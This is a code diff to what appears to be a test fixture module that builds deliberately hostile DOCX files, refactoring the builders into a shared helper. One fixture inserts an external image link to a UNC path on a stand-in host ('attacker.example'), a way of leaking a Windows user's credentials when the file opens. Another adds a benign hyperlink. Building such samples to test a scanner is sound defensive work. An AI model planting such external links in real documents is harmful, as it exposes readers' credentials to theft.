@@ -80,21 +80,22 @@ def docx_external_template(docx: bytes) -> bytes:
     return rezip(docx, add={"word/_rels/settings.xml.rels": rels.encode()})
 
 
-def docx_linked_image(docx: bytes) -> bytes:
+def _external_rel(docx: bytes, kind: str, target: str) -> bytes:
+    """DOCX with one more external relationship of KIND in document.xml.rels."""
     rels = _part(docx, "word/_rels/document.xml.rels").replace(
         b"</Relationships>",
-        f'<Relationship Id="rId99" Type="{REL}/image" Target="\\\\attacker.example\\s\\x.png" '
+        f'<Relationship Id="rId9{len(kind)}" Type="{REL}/{kind}" Target="{target}" '
         f'TargetMode="External"/></Relationships>'.encode())
     return rezip(docx, {"word/_rels/document.xml.rels": rels})
+
+
+def docx_linked_image(docx: bytes) -> bytes:
+    return _external_rel(docx, "image", "\\\\attacker.example\\s\\x.png")
 
 
 def docx_hyperlink(docx: bytes) -> bytes:
     """A clickable link to the OPD's site: not active content, must still be read."""
-    rels = _part(docx, "word/_rels/document.xml.rels").replace(
-        b"</Relationships>",
-        f'<Relationship Id="rId98" Type="{REL}/hyperlink" Target="https://opd.example.go.id/" '
-        f'TargetMode="External"/></Relationships>'.encode())
-    return rezip(docx, {"word/_rels/document.xml.rels": rels})
+    return _external_rel(docx, "hyperlink", "https://opd.example.go.id/")
 
 
 HOSTILE_DOCX = {
